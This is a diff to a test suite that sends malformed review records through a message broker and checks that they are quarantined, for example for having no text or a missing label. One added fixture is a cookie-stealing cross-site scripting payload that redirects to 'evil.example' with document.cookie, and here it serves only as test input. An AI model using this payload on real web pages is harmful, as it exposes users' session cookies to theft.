@@ -27,6 +27,8 @@ describe('bad input on a real broker', () => {
       { id: 'too-long', value: encode('review-raw', raw('too-long', 'word '.repeat(30_000), 1)) },
       { id: 'controls-only', value: encode('review-raw', raw('controls-only', '\u0001\u0002\u0003\u0007', 1)) },
       { id: 'html-only', value: encode('review-raw', raw('html-only', '<div><br /><p></p></div>', 0)) },
+      { id: 'script-only', value: encode('review-raw', raw('script-only', '<script>document.location = "https://evil.example/?c=" + document.cookie;</script>', 1)) },
+      { id: 'style-and-comment-only', value: encode('review-raw', raw('style-and-comment-only', '<style>body { display: none }</style><!-- a long comment that is not review text --><![CDATA[ nor is this ]]>', 1)) },
       { id: 'missing-label', value: encode('review-raw', raw('missing-label', 'a perfectly reasonable review without any label at all', null)) },
       { id: 'label-out-of-range', value: encode('review-raw', raw('label-out-of-range', 'another reasonable review whose label is out of range', 5)) },
     ];
@@ -65,6 +67,9 @@ describe('bad input on a real broker', () => {
     expect(quarantined.get('empty-text')).toContain('too-short');
     expect(quarantined.get('controls-only')).toContain('too-short');
     expect(quarantined.get('html-only')).toContain('too-short');
+    for (const id of ['empty-text', 'controls-only', 'html-only', 'script-only', 'style-and-comment-only']) {
+      expect(quarantined.get(id), id).toContain('no-text');
+    }
     expect(quarantined.get('missing-label')).toContain('missing-label');
     expect(quarantined.get('label-out-of-range')).toContain('invalid-label');
     expect(quarantined.get('too-long')).toBeDefined();
